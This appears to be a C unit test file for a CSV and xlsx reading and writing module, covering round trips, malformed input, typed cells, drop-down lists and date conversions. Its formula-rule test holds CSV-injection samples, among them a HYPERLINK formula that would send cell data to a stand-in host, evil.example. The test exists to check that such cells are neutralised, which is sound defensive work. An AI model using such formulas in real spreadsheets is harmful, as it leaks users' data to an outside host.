/* test_tabular.c — unit tests for src/base/tabular: CSV and xlsx writing and
 * reading of text tables and typed sheets, the formula rule, drop-down lists and
 * second sheets, and the value conversions of the xlsx reader. Hostile and foreign
 * xlsx files: test_xlsx_read.c. */
#include "tabular_test.h"

#include "base/date.h"
#include "base/tabular/internal.h"

/* ------------------------------------------------------------------- CSV */

static const char *const sample_cells[] = {
    "姓名",
    "单位",
    "建议内容",
    "张三",
    "县人大常委会",
    "关于加快\"乡村振兴\"的建议",
    "Li, Si",
    "",
    "line one\nline two\r\nline three",
    "=SUM(A1:A2)",
    "  spaced  ",
    "\"quoted\"",
};

static void test_csv_round_trip(void **state) {
    (void)state;
    arena *a = arena_new(TEST_ARENA_CAP);
    table t = make_table(a, 4, 3, sample_cells);
    buf out;
    buf_init(&out, TEST_BUF_MAX);
    assert_int_equal(tabular_write_csv(&t, &out), RC_OK);
    assert_memory_equal(out.data, "\xEF\xBB\xBF", 3);
    assert_non_null(strstr(out.data, "\"Li, Si\",,\"line one\nline two\r\nline three\"\r\n"));
    assert_non_null(strstr(out.data, "=SUM(A1:A2),  spaced  ,\"\"\"quoted\"\"\"\r\n"));
    table back;
    err e;
    err_clear(&e);
    assert_int_equal(tabular_read_csv(a, out.data, out.len, &back, &e), RC_OK);
    assert_table_equal(&back, &t);

    /* a full buffer leaves the output untouched */
    buf small;
    buf_init(&small, 20);
    assert_int_equal(buf_puts(&small, "keep"), RC_OK);
    assert_int_equal(tabular_write_csv(&t, &small), RC_TOO_LARGE);
    assert_string_equal(small.data, "keep");
    buf_free(&small);
    buf_free(&out);
    arena_free(a);
}

static void test_csv_read_forms(void **state) {
    (void)state;
    static const struct {
        const char *in;
        int nrows, ncols;
        const char *cells; /* all cells joined with '|' row by row */
    } cases[] = {
        {"a,b\nc,d\n", 2, 2, "a|b|c|d"},
        {"a,b\r\nc,d", 2, 2, "a|b|c|d"},
        {"\xEF\xBB\xBFh1,h2\r\n1,2\r\n", 2, 2, "h1|h2|1|2"},
        {"h1,h2,h3\nx\n", 2, 3, "h1|h2|h3|x||"},
        {"a,\"b\nc\",d\n", 1, 3, "a|b\nc|d"},
        {"\"\",x\n", 1, 2, "|x"},
        {"a,b,\n", 1, 3, "a|b|"},
        {"a\n\nb\n", 3, 1, "a||b"},
        {"", 0, 0, ""},
        {"\xEF\xBB\xBF", 0, 0, ""},
        {"x\"y,z\n", 1, 2, "x\"y|z"},
    };
    arena *a = arena_new(TEST_ARENA_CAP);
    for (size_t i = 0; i < COUNT(cases); i++) {
        table t;
        err e;
        err_clear(&e);
        rc_t rc = tabular_read_csv(a, cases[i].in, strlen(cases[i].in), &t, &e);
        if (rc != RC_OK)
            fail_msg("case %zu: %s", i, e.message);
        assert_int_equal(t.nrows, cases[i].nrows);
        assert_int_equal(t.ncols, cases[i].ncols);
        buf j;
        buf_init(&j, 4096);
        for (int r = 0; r < t.nrows; r++)
            for (int c = 0; c < t.ncols; c++) {
                if (r + c > 0)
                    buf_puts(&j, "|");
                buf_puts(&j, t.cells[r][c]);
            }
        assert_string_equal(j.data ? j.data : "", cases[i].cells);
        buf_free(&j);
    }
    arena_free(a);
}

static void test_csv_malformed(void **state) {
    (void)state;
    static const struct {
        const char *in;
        size_t len;
        rc_t rc;
        const char *msg;
    } cases[] = {
        {"a,b\nc,d\ne,\"never closed\nmore\n", 0, RC_INVALID, "line 3"},
        {"a,b\n\"x\"y,z\n", 0, RC_INVALID, "line 2"},
        {"a,b\nok\n\xC0\xAF,x\n", 0, RC_BAD_REQUEST, "line 3"},
        {"a,b\nc\0d\n", 8, RC_BAD_REQUEST, "line 2"},
    };
    arena *a = arena_new(TEST_ARENA_CAP);
    for (size_t i = 0; i < COUNT(cases); i++) {
        table t;
        err e;
        err_clear(&e);
        size_t len = cases[i].len ? cases[i].len : strlen(cases[i].in);
        assert_int_equal(tabular_read_csv(a, cases[i].in, len, &t, &e), cases[i].rc);
        if (!strstr(e.message, cases[i].msg))
            fail_msg("case %zu: message '%s' does not name '%s'", i, e.message, cases[i].msg);
    }
    /* too many columns */
    buf wide;
    buf_init(&wide, TEST_BUF_MAX);
    for (int c = 0; c <= TABULAR_MAX_COLS; c++)
        buf_puts(&wide, "x,");
    table t;
    err e;
    assert_int_equal(tabular_read_csv(a, wide.data, wide.len, &t, &e), RC_TOO_LARGE);
    /* a cell over the limit */
    buf_reset(&wide);
    for (int c = 0; c <= TABULAR_MAX_CELL; c++)
        buf_puts(&wide, "y");
    assert_int_equal(tabular_read_csv(a, wide.data, wide.len, &t, &e), RC_TOO_LARGE);
    assert_non_null(strstr(e.message, "line 1"));
    buf_free(&wide);
    arena_free(a);
}

/* ------------------------------------------------------------------ xlsx */

static void test_xlsx_round_trip(void **state) {
    (void)state;
    arena *a = arena_new(TEST_ARENA_CAP);
    table t = make_table(a, 4, 3, sample_cells);
    buf out;
    buf_init(&out, TEST_BUF_MAX);
    err e;
    err_clear(&e);
    assert_int_equal(tabular_write_xlsx(&t, "建议", &out, &e), RC_OK);
    assert_true(out.len > 100);
    assert_memory_equal(out.data, "PK", 2);
    table back;
    rc_t rc = tabular_read_xlsx(a, out.data, out.len, &back, &e);
    if (rc != RC_OK)
        fail_msg("read back: %s", e.message);
    assert_table_equal(&back, &t);

    /* a bad sheet name is refused and leaves out alone */
    size_t len = out.len;
    assert_int_equal(tabular_write_xlsx(&t, "bad/name", &out, &e), RC_INVALID);
    assert_int_equal(out.len, len);
    buf_free(&out);
    arena_free(a);
}

static void test_xlsx_garbage(void **state) {
    (void)state;
    static const struct {
        const char *data;
        size_t len;
    } cases[] = {
        {"", 0},
        {"not a zip file at all", 21},
        {"PK\x03\x04garbage", 12},
        {"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", 22}, /* empty archive */
    };
    arena *a = arena_new(TEST_ARENA_CAP);
    for (size_t i = 0; i < COUNT(cases); i++) {
        table t;
        err e;
        err_clear(&e);
        assert_int_not_equal(tabular_read_xlsx(a, cases[i].data, cases[i].len, &t, &e), RC_OK);
        assert_true(e.message[0] != '\0');
    }
    /* a real workbook cut short */
    table t = make_table(a, 4, 3, sample_cells);
    buf out;
    buf_init(&out, TEST_BUF_MAX);
    err e;
    assert_int_equal(tabular_write_xlsx(&t, NULL, &out, &e), RC_OK);
    table back;
    for (size_t cut = 0; cut < out.len; cut += out.len / 16 + 1)
        assert_int_not_equal(tabular_read_xlsx(a, out.data, cut, &back, &e), RC_OK);
    buf_free(&out);
    arena_free(a);
}

/* ------------------------------------------------------------ typed cells */

static date_t day(const char *s) {
    date_t d;
    assert_true(date_parse(s, &d));
    return d;
}

/* A sheet of nrows × ncols cells copied from cells (row by row) into the arena. */
static tab_sheet sheet_of(arena *a, const char *name, int nrows, int ncols, const tab_cell *cells) {
    tab_sheet s = {.name = name, .nrows = nrows, .ncols = ncols, .header_rows = 1};
    s.cells = arena_alloc(a, sizeof(tab_cell *) * (size_t)nrows);
    for (int r = 0; r < nrows; r++) {
        s.cells[r] = arena_alloc(a, sizeof(tab_cell) * (size_t)ncols);
        memcpy(s.cells[r], cells + r * ncols, sizeof(tab_cell) * (size_t)ncols);
    }
    return s;
}

/* One row of every kind of cell, and what each reads back as. */
static const char *const typed_header[] = {"文本", "整数", "金额",   "日期",
                                           "是否", "空",   "大整数", "负数文本"};
enum { TYPED_COLS = COUNT(typed_header) };

static void typed_row(tab_cell *row, int i) {
    static const long long money[] = {995, 7, 9999999999, -1, 123456789012345};
    row[0] = tab_text(i % 2 ? "县人大常委会" : "=1+1");
    row[1] = tab_int(i * 1000 - 7);
    row[2] = tab_decimal(money[i % COUNT(money)], 2);
    row[3] = tab_date(day(i % 2 ? "2024-02-29" : "1999-12-31"));
    row[4] = tab_bool(i % 2);
    row[5] = tab_empty();
    row[6] = tab_int(1234567890123456789LL); /* more digits than a double holds */
    row[7] = tab_text("-5");
}

static tab_sheet typed_sheet(arena *a, int nrows) {
    tab_cell cells[8 * TYPED_COLS];
    assert_true(nrows <= 8);
    for (int c = 0; c < TYPED_COLS; c++)
        cells[c] = tab_text(typed_header[c]);
    for (int r = 1; r < nrows; r++)
        typed_row(cells + r * TYPED_COLS, r);
    return sheet_of(a, "数据", nrows, TYPED_COLS, cells);
}

/* The text each typed cell reads back as, in either format. */
static void assert_typed_back(const tab_sheet *back, const tab_sheet *want, bool xlsx) {
    assert_int_equal(back->nrows, want->nrows);
    assert_int_equal(back->ncols, want->ncols); /* the empty column 空 is inside */
    for (int r = 0; r < want->nrows; r++)
        for (int c = 0; c < want->ncols; c++) {
            const tab_cell *g = &back->cells[r][c], *w = &want->cells[r][c];
            char tmp[TAB_TEXT_MAX];
            const char *wt = tab_cell_text(w, tmp);
            assert_non_null(g->text);
            if (w->type == TAB_DECIMAL) { /* xlsx says 9.95 for 9.95 and 0.07 for 0.07 */
                long long units;
                if (!tab_parse_decimal(g->text, w->scale, &units) || units != w->num)
                    fail_msg("row %d col %d: decimal %s came back as '%s'", r, c, wt, g->text);
                assert_int_equal(g->type, xlsx ? TAB_DECIMAL : TAB_TEXT);
                continue;
            }
            if (strcmp(g->text, wt) != 0)
                fail_msg("row %d col %d: got '%s', want '%s'", r, c, g->text, wt);
            tab_type type = w->type == TAB_EMPTY ? TAB_EMPTY : TAB_TEXT;
            if (xlsx && w->type == TAB_INT && c != 6)
                type = TAB_INT;
            if (xlsx && w->type == TAB_DATE)
                type = TAB_DATE;
            if (g->type != type)
                fail_msg("row %d col %d ('%s'): type %d, want %d", r, c, g->text, g->type, type);
            if (type == TAB_INT)
                assert_int_equal(g->num, w->num);
            if (type == TAB_DATE)
                assert_int_equal(g->date, w->date);
            if (w->type == TAB_BOOL) {
                bool b;
                assert_true(tab_parse_bool(g->text, &b));
                assert_int_equal(b, w->yes);
            }
        }
}

static void test_typed_csv_round_trip(void **state) {
    (void)state;
    arena *a = arena_new(TEST_ARENA_CAP);
    tab_sheet s = typed_sheet(a, 6);
    buf out;
    buf_init(&out, TEST_BUF_MAX);
    err e;
    err_clear(&e);
    assert_int_equal(tab_write_csv(&s, &out, &e), RC_OK);
    assert_memory_equal(out.data, "\xEF\xBB\xBF", 3);
    /* text "=1+1" and "-5" neutralised; -7 + 2000 a number, money exact, the date,
     * 否, the empty cell, all 19 digits of the big integer */
    assert_non_null(
        strstr(out.data, "\r\n县人大常委会,993,0.07,2024-02-29,是,,1234567890123456789,'-5\r\n"));
    assert_non_null(strstr(out.data, "\r\n'=1+1,1993,99999999.99,1999-12-31,否,,"));
    assert_non_null(strstr(out.data, "\r\n县人大常委会,2993,-0.01,"));
    assert_non_null(strstr(out.data, ",1234567890123.45,"));
    tab_sheet back;
    assert_int_equal(tab_read_csv(a, out.data, out.len, &back, &e), RC_OK);
    assert_typed_back(&back, &s, false);

    /* a bad scale is refused naming the cell, and leaves out alone */
    size_t len = out.len;
    s.cells[2][2] = tab_decimal(1, TAB_SCALE_MAX + 1);
    assert_int_equal(tab_write_csv(&s, &out, &e), RC_INVALID);
    assert_non_null(strstr(e.message, "C3"));
    assert_int_equal(out.len, len);
    buf_free(&out);
    arena_free(a);
}

static void test_typed_xlsx_round_trip(void **state) {
    (void)state;
    arena *a = arena_new(TEST_ARENA_CAP);
    tab_sheet s = typed_sheet(a, 6);
    buf out;
    buf_init(&out, TEST_BUF_MAX);
    err e;
    err_clear(&e);
    assert_int_equal(tab_write_xlsx(&s, 1, &out, &e), RC_OK);
    tab_sheet back;
    rc_t rc = tab_read_xlsx(a, out.data, out.len, &back, &e);
    if (rc != RC_OK)
        fail_msg("read back: %s", e.message);
    assert_string_equal(back.name, "数据");
    assert_typed_back(&back, &s, true);

    /* dates are numbers with a date format, not text; the header is frozen */
    char *sheet = zip_part(&out, "xl/worksheets/sheet1.xml");
    char *styles = zip_part(&out, "xl/styles.xml");
    assert_non_null(strstr(sheet, "<c r=\"D2\" s=\"")); /* 2024-02-29 is serial 45351 */
    assert_non_null(strstr(sheet, "<v>45351</v>"));
    assert_non_null(strstr(
        sheet,
        "<pane ySplit=\"1\" topLeftCell=\"A2\" activePane=\"bottomLeft\" state=\"frozen\"/>"));
    assert_non_null(strstr(styles, "formatCode=\"yyyy-mm-dd\""));
    assert_non_null(strstr(styles, "formatCode=\"0.00\""));
    assert_non_null(strstr(styles, "<b/>"));
    free(sheet);
    free(styles);
    buf_free(&out);
    arena_free(a);
}

/* Through openpyxl: dates are dates, numbers numbers, the header frozen, the list
 * and the second sheet there (tabular_fixtures.py check-xlsx says what it checks). */
static void test_typed_xlsx_in_openpyxl(void **state) {
    (void)state;
    arena *a = arena_new(TEST_ARENA_CAP);
    tab_sheet sheets[2] = {typed_sheet(a, 6)};
    static const char *const kinds[] = {"是", "否"};
    const tab_list lists[] = {
        {.col = 4, .values = kinds, .nvalues = 2, .prompt = "选择是或否"},
        {.col = 0,
         .source_sheet = "可选值",
         .source_col = 0,
         .source_first_row = 1,
         .source_last_row = 3},
    };
    sheets[0].lists = lists;
    sheets[0].nlists = COUNT(lists);
    tab_cell allowed[] = {tab_text("文本可选值"), tab_text("甲"), tab_text("乙"), tab_text("丙")};
    sheets[1] = sheet_of(a, "可选值", 4, 1, allowed);
    buf out;
    buf_init(&out, TEST_BUF_MAX);
    err e;
    assert_int_equal(tab_write_xlsx(sheets, 2, &out, &e), RC_OK);
    char *sheet = zip_part(&out, "xl/worksheets/sheet1.xml");
    assert_non_null(strstr(sheet, "<formula1>\"是,否\"</formula1>"));
    assert_non_null(strstr(sheet, "<formula1>'可选值'!$A$2:$A$4</formula1>"));
    assert_non_null(strstr(sheet, "sqref=\"E2:E1048576\""));
    free(sheet);
    char path[64];
    spill(out.data, out.len, path, ".xlsx");
    run_fixture("check-xlsx", path);
    unlink(path);
    buf_free(&out);
    arena_free(a);
}

static void test_xlsx_writer_refusals(void **state) {
    (void)state;
    arena *a = arena_new(TEST_ARENA_CAP);
    tab_sheet s = typed_sheet(a, 3);
    buf out;
    buf_init(&out, TEST_BUF_MAX);
    err e;
    static const char *const comma[] = {"a,b"};
    static const char *const many[] = {
        "一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十",
        "一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十",
        "一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十",
        "一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十",
        "一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十",
        "一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十",
        "一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十",
    };
    static const struct {
        tab_list list;
        const char *msg;
    } cases[] = {
        {{.col = 1, .values = comma, .nvalues = 1}, "column B"},
        {{.col = 2, .values = many, .nvalues = COUNT(many)}, "column C"},
        {{.col = 3}, "column D"},
        {{.col = -1, .values = comma, .nvalues = 1}, "column 0"},
        {{.col = 1, .source_sheet = "x", .source_first_row = 5, .source_last_row = 2}, "source"},
    };
    for (size_t i = 0; i < COUNT(cases); i++) {
        s.lists = &cases[i].list;
        s.nlists = 1;
        err_clear(&e);
        assert_int_equal(tab_write_xlsx(&s, 1, &out, &e), RC_INVALID);
        if (!strstr(e.message, cases[i].msg))
            fail_msg("case %zu: '%s' does not name '%s'", i, e.message, cases[i].msg);
        assert_int_equal(out.len, 0);
    }
    s.nlists = 0;
    assert_int_equal(tab_write_xlsx(&s, 0, &out, &e), RC_INVALID);
    tab_sheet two[2] = {s, s}; /* two sheets of one name */
    assert_int_equal(tab_write_xlsx(two, 2, &out, &e), RC_INVALID);
    assert_non_null(strstr(e.message, "数据"));
    two[1].name = NULL; /* unnamed: Sheet2 */
    assert_int_equal(tab_write_xlsx(two, 2, &out, &e), RC_OK);
    char *wb = zip_part(&out, "xl/workbook.xml");
    assert_non_null(strstr(wb, "name=\"Sheet2\""));
    free(wb);
    buf_free(&out);
    arena_free(a);
}

/* Past 10,000 rows libxlsxwriter streams rows to disk and writes inline strings:
 * the reader takes those too, and the typed cells keep their kinds. */
static void test_xlsx_large_workbook(void **state) {
    (void)state;
    enum { ROWS = 12001, COLS = 3 };
    arena *a = arena_new(TEST_ARENA_CAP);
    tab_sheet s = {.name = "大表", .nrows = ROWS, .ncols = COLS, .header_rows = 1};
    s.cells = arena_alloc(a, sizeof(tab_cell *) * ROWS);
    for (int r = 0; r < ROWS; r++) {
        s.cells[r] = arena_alloc(a, sizeof(tab_cell) * COLS);
        s.cells[r][0] = r ? tab_text(arena_printf(a, "第%d行", r)) : tab_text("行");
        s.cells[r][1] = r ? tab_decimal(r * 101LL, 2) : tab_text("金额");
        s.cells[r][2] = r ? tab_date(day("2024-01-01") + r) : tab_text("日期");
    }
    buf out;
    buf_init(&out, TEST_BUF_MAX);
    err e;
    assert_int_equal(tab_write_xlsx(&s, 1, &out, &e), RC_OK);
    char *sheet = zip_part(&out, "xl/worksheets/sheet1.xml");
    assert_non_null(strstr(sheet, "t=\"inlineStr\""));
    assert_non_null(strstr(sheet, "state=\"frozen\""));
    free(sheet);
    tab_sheet back;
    if (tab_read_xlsx(a, out.data, out.len, &back, &e) != RC_OK)
        fail_msg("%s", e.message);
    assert_int_equal(back.nrows, ROWS);
    assert_string_equal(back.cells[ROWS - 1][0].text, "第12000行");
    assert_string_equal(back.cells[ROWS - 1][1].text, "12120");
    assert_int_equal(back.cells[ROWS - 1][1].type, TAB_INT);
    assert_string_equal(back.cells[7][1].text, "7.07");
    assert_int_equal(back.cells[ROWS - 1][2].type, TAB_DATE);
    assert_string_equal(back.cells[ROWS - 1][2].text, "2056-11-08");
    buf_free(&out);
    arena_free(a);
}

/* ------------------------------------------------------------ formula rule */

static const char *const formula_texts[] = {
    "=HYPERLINK(\"http://evil.example/\"&A2,\"详情\")",
    "+1",
    "-1",
    "@SUM(1)",
    "\tTAB 开头",
    "\rCR 开头",
    "'=already quoted",
    "''+two quotes",
};
/* Texts the rule leaves alone. */
static const char *const plain_texts[] = {"'just a quote", "'", "普通 = 文本", "1-2", ""};

static void test_csv_formula_rule(void **state) {
    (void)state;
    arena *a = arena_new(TEST_ARENA_CAP);
    enum { NF = COUNT(formula_texts), NP = COUNT(plain_texts) };
    tab_cell cells[2 * (NF + NP + 2)];
    int n = NF + NP + 2;
    for (int i = 0; i < NF; i++)
        cells[i] = tab_text(formula_texts[i]);
    for (int i = 0; i < NP; i++)
        cells[NF + i] = tab_text(plain_texts[i]);
    cells[NF + NP] = tab_int(-1); /* numbers are numbers: no quote */
    cells[NF + NP + 1] = tab_decimal(-250, 2);
    for (int i = 0; i < n; i++)
        cells[n + i] = cells[i];
    tab_sheet s = sheet_of(a, NULL, 2, n, cells);
    buf out;
    buf_init(&out, TEST_BUF_MAX);
    err e;
    assert_int_equal(tab_write_csv(&s, &out, &e), RC_OK);
    assert_non_null(strstr(
        out.data, "\"'=HYPERLINK(\"\"http://evil.example/"
                  "\"\"&A2,\"\"详情\"\")\",'+1,'-1,'@SUM(1),'\tTAB 开头,\"'\rCR 开头\",''=already "
                  "quoted,'''+two quotes,'just a quote,',普通 = 文本,1-2,,-1,-2.50\r\n"));

    /* the C reader undoes it: every text comes back as it was */
    tab_sheet back;
    assert_int_equal(tab_read_csv(a, out.data, out.len, &back, &e), RC_OK);
    for (int c = 0; c < n; c++) {
        char tmp[TAB_TEXT_MAX];
        assert_string_equal(back.cells[1][c].text, tab_cell_text(&cells[c], tmp));
    }
    /* so does the text wrapper, writing the same bytes */
    table t;
    assert_int_equal(tabular_read_csv(a, out.data, out.len, &t, &e), RC_OK);
    assert_string_equal(t.cells[0][0], formula_texts[0]);
    buf again;
    buf_init(&again, TEST_BUF_MAX);
    t.ncols = NF + NP; /* the text columns: the wrapper applies the rule to them all */
    assert_int_equal(tabular_write_csv(&t, &again), RC_OK);
    size_t row = (size_t)(strstr(again.data, "\r\n") - again.data);
    assert_memory_equal(again.data, out.data, row);

    /* a CSV reader that knows nothing of the rule (Python's csv) sees the quote */
    char path[64];
    spill(out.data, out.len, path, ".csv");
    run_fixture("check-csv", path);
    unlink(path);
    buf_free(&again);
    buf_free(&out);
    arena_free(a);
}

/* --------------------------------------------------------------- parsers */

static void test_parse_helpers(void **state) {
    (void)state;
    static const struct {
        const char *s;
        bool ok, value;
    } bools[] = {
        {"是", true, true},    {"否", true, false}, {"TRUE", true, true}, {"false", true, false},
        {"1", true, true},     {"0", true, false},  {"", false, false},   {"yes", false, false},
        {"是 ", false, false}, {"2", false, false},
    };
    for (size_t i = 0; i < COUNT(bools); i++) {
        bool b = !bools[i].value;
        assert_int_equal(tab_parse_bool(bools[i].s, &b), bools[i].ok);
        if (bools[i].ok)
            assert_int_equal(b, bools[i].value);
    }
    static const struct {
        const char *s;
        int scale;
        bool ok;
        long long units;
    } decimals[] = {
        {"12.3", 2, true, 1230},
        {"12.30", 2, true, 1230},
        {"-0.07", 2, true, -7},
        {"7", 2, true, 700},
        {"7", 0, true, 7},
        {"12.345", 2, false, 0},
        {"12.", 2, false, 0},
        {".5", 2, false, 0},
        {"1e3", 2, false, 0},
        {"", 2, false, 0},
        {"-", 2, false, 0},
        {"1,000", 2, false, 0},
        {"92233720368547758.07", 2, true, 9223372036854775807LL},
        {"92233720368547758.08", 2, false, 0},
        {"1", TAB_SCALE_MAX + 1, false, 0},
    };
    for (size_t i = 0; i < COUNT(decimals); i++) {
        long long u = -1;
        if (tab_parse_decimal(decimals[i].s, decimals[i].scale, &u) != decimals[i].ok)
            fail_msg("tab_parse_decimal('%s', %d) should be %d", decimals[i].s, decimals[i].scale,
                     decimals[i].ok);
        if (decimals[i].ok)
            assert_int_equal(u, decimals[i].units);
    }
    char tmp[TAB_TEXT_MAX];
    tab_cell c = tab_decimal(-5, 3);
    assert_string_equal(tab_cell_text(&c, tmp), "-0.005");
    c = tab_decimal(-9223372036854775807LL - 1, 0);
    assert_string_equal(tab_cell_text(&c, tmp), "-9223372036854775808");
    c = tab_decimal(1, TAB_SCALE_MAX);
    assert_string_equal(tab_cell_text(&c, tmp), "0.000000000000001");
}

/* The reader's conversions, one table each (internal.h). */
static void test_xlsx_values(void **state) {
    (void)state;
    static const struct {
        double x;
        tab_type type;
        const char *text;
    } numbers[] = {
        {100, TAB_INT, "100"},
        {-0.0, TAB_INT, "0"},
        {9.949999999999999, TAB_DECIMAL, "9.95"},
        {0.1 + 0.2, TAB_DECIMAL, "0.3"},
        {-1234567.891, TAB_DECIMAL, "-1234567.891"},
        {999999999999999, TAB_INT, "999999999999999"},
        {1e15, TAB_TEXT, "1E+15"},
        {1.2345678901234567e17, TAB_TEXT, "1.23456789012346E+17"},
        {1.5e-7, TAB_DECIMAL, "0.00000015"},
        {-2.5e-5, TAB_DECIMAL, "-0.000025"},
        {1e-20, TAB_TEXT, "1E-20"},
        {2.0000000000000004, TAB_INT, "2"},
    };
    for (size_t i = 0; i < COUNT(numbers); i++) {
        char out[TAB_TEXT_MAX];
        tab_type t = xlsx_number_text(numbers[i].x, out);
        if (t != numbers[i].type || strcmp(out, numbers[i].text) != 0)
            fail_msg("number %zu: got %d '%s', want %d '%s'", i, t, out, numbers[i].type,
                     numbers[i].text);
    }
    static const struct {
        const char *code;
        xlsx_fmt kind;
    } formats[] = {
        {"yyyy-mm-dd", XLSX_FMT_DATE},
        {"YYYY\\-MM\\-DD", XLSX_FMT_DATE},           /* LibreOffice */
        {"yyyy\"年\"m\"月\"d\"日\"", XLSX_FMT_DATE}, /* WPS, Excel zh-CN */
        {"[$-804]yyyy年m月d日 dddd", XLSX_FMT_DATE},
        {"[DBNum1][$-804]yyyy\"年\"m\"月\"d\"日\"", XLSX_FMT_DATE},
        {"mmm-yy", XLSX_FMT_DATE},
        {"mmmm", XLSX_FMT_DATE},
        {"yyyy/m/d h:mm", XLSX_FMT_DATETIME},
        {"h:mm", XLSX_FMT_TIME},
        {"[h]:mm:ss", XLSX_FMT_TIME},
        {"mm:ss", XLSX_FMT_TIME},
        {"h:mm AM/PM", XLSX_FMT_TIME},
        {"General", XLSX_FMT_NUMBER},
        {"0.00E+00", XLSX_FMT_NUMBER},
        {"#,##0.00;[Red]-#,##0.00", XLSX_FMT_NUMBER},
        {"\"day\" 0", XLSX_FMT_NUMBER},
        {"0\\d", XLSX_FMT_NUMBER},
        {"@", XLSX_FMT_NUMBER},
        {"[Red][<=100]0;[Blue]0", XLSX_FMT_NUMBER},
        {"0.00_);(0.00)", XLSX_FMT_NUMBER},
        {"\"unterminated", XLSX_FMT_NUMBER},
    };
    for (size_t i = 0; i < COUNT(formats); i++)
        if (xlsx_format_kind(formats[i].code) != formats[i].kind)
            fail_msg("format '%s': got %d, want %d", formats[i].code,
                     xlsx_format_kind(formats[i].code), formats[i].kind);
    assert_int_equal(xlsx_builtin_format(14), XLSX_FMT_DATE);
    assert_int_equal(xlsx_builtin_format(22), XLSX_FMT_DATETIME);
    assert_int_equal(xlsx_builtin_format(20), XLSX_FMT_TIME);
    assert_int_equal(xlsx_builtin_format(31), XLSX_FMT_DATE);
    assert_int_equal(xlsx_builtin_format(2), XLSX_FMT_NUMBER);
    assert_int_equal(xlsx_builtin_format(49), XLSX_FMT_NUMBER);
    static const struct {
        double v;
        xlsx_fmt kind;
        bool date1904;
        tab_type type;
        const char *text;
    } serials[] = {
        {45351, XLSX_FMT_DATE, false, TAB_DATE, "2024-02-29"},
        {45351.75, XLSX_FMT_DATE, false, TAB_DATE, "2024-02-29"},
        {45351.5, XLSX_FMT_DATETIME, false, TAB_TEXT, "2024-02-29 12:00:00"},
        {45351, XLSX_FMT_DATETIME, false, TAB_DATE, "2024-02-29"},
        {45351.9999999, XLSX_FMT_DATETIME, false, TAB_DATE, "2024-03-01"},
        {0.75, XLSX_FMT_TIME, false, TAB_TEXT, "18:00:00"},
        {1, XLSX_FMT_DATE, false, TAB_DATE, "1900-01-01"},
        {59, XLSX_FMT_DATE, false, TAB_DATE, "1900-02-28"},
        {60, XLSX_FMT_DATE, false, TAB_TEXT, "1900-02-29"},
        {61, XLSX_FMT_DATE, false, TAB_DATE, "1900-03-01"},
        {0, XLSX_FMT_DATE, false, TAB_EMPTY, ""},
        {-1, XLSX_FMT_DATE, false, TAB_EMPTY, ""},
        {2958466, XLSX_FMT_DATE, false, TAB_EMPTY, ""},
        {0, XLSX_FMT_DATE, true, TAB_DATE, "1904-01-01"},
        {43890, XLSX_FMT_DATE, true, TAB_DATE, "2024-03-01"},
    };
    for (size_t i = 0; i < COUNT(serials); i++) {
        char out[TAB_TEXT_MAX] = "";
        tab_type t = xlsx_serial_text(serials[i].v, serials[i].kind, serials[i].date1904, out);
        if (t != serials[i].type || (t != TAB_EMPTY && strcmp(out, serials[i].text) != 0))
            fail_msg("serial %zu (%g): got %d '%s', want %d '%s'", i, serials[i].v, t, out,
                     serials[i].type, serials[i].text);
    }
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_csv_round_trip),        cmocka_unit_test(test_csv_read_forms),
        cmocka_unit_test(test_csv_malformed),         cmocka_unit_test(test_xlsx_round_trip),
        cmocka_unit_test(test_xlsx_garbage),          cmocka_unit_test(test_typed_csv_round_trip),
        cmocka_unit_test(test_typed_xlsx_round_trip), cmocka_unit_test(test_typed_xlsx_in_openpyxl),
        cmocka_unit_test(test_xlsx_writer_refusals),  cmocka_unit_test(test_xlsx_large_workbook),
        cmocka_unit_test(test_csv_formula_rule),      cmocka_unit_test(test_parse_helpers),
        cmocka_unit_test(test_xlsx_values),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
